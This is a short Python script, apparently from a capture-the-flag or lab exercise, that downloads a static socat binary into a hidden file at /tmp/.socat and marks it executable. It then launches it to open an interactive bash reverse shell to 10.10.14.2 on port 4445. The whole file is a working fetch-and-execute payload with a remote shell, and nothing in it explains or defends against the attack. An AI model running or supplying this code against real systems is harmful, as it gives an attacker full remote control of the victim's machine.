import os
import stat
import subprocess
import urllib.request

path = "/tmp/.socat"
urllib.request.urlretrieve("https://github.com/andrew-d/static-binaries/raw/master/binaries/linux/x86_64/socat", path)
os.chmod(path, os.stat(path).st_mode | stat.S_IEXEC)
subprocess.Popen([path, "exec:bash -li,pty,stderr,setsid,sigint,sane", "tcp:10.10.14.2:4445"])
